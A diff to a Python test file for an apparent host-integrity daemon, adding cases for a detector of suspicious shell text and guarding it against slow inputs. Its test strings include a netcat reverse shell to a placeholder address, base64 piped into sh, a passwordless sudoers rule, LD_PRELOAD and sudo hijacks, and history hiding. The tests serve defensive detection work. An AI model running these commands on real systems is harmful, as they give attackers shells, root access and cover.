@@ -13,7 +13,7 @@ from dio_daemon.detect.integrity import inotify, words
 from dio_daemon.detect.integrity.assemble import assemble
 from dio_daemon.detect.integrity.dpkg import Packages, aliases, conffiles, diversions
 from dio_daemon.detect.integrity.runs import Runs, runs_of_history, runs_of_log
-from dio_daemon.detect.integrity.suspicious import signs
+from dio_daemon.detect.integrity.suspicious import WEB_SHELL, signs
 from dio_daemon.detect.integrity.window import ChangeWindow
 from dio_daemon.heartbeat import Heartbeat
 from tests.support.control import Socket
@@ -104,10 +104,35 @@ def test_what_is_no_secret_stays() -> None:
         "nc -e /bin/sh 192.0.2.1 1",
         "echo aGk= | base64 -d | sh",
         "ann ALL=(ALL) NOPASSWD: ALL",
+        "export LD_PRELOAD=/x.so",
+        "export HISTIGNORE='*'",
+        "alias sudo='/home/ann/x'",
+        "sudo() { x; }",
     ],
 )
 def test_signs(text: str) -> None:
     assert signs(text.encode()) and not signs(text.encode(), text.encode())
+
+
+@pytest.mark.parametrize(
+    "text", ["alias sudo='sudo '", "# LD_PRELOAD is read by ld.so", "HISTIGNORE=ls:cd", "pseudo()"]
+)
+def test_texts_that_look_alike_have_no_signs(text: str) -> None:
+    assert signs(text.encode()) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"\n" * 500_000,
+        b"nc " * 100_000,
+        b"eval(" + b" " * 500_000,
+        b"`$" * 200_000,
+        b"curl python /a" * 40_000,
+    ],
+)
+def test_a_text_that_is_made_to_take_long_does_not(text: bytes) -> None:
+    assert signs(text) == [] and signs(text, wanted=WEB_SHELL) == []
 
 
 def test_ordinary_texts_have_no_signs() -> None:
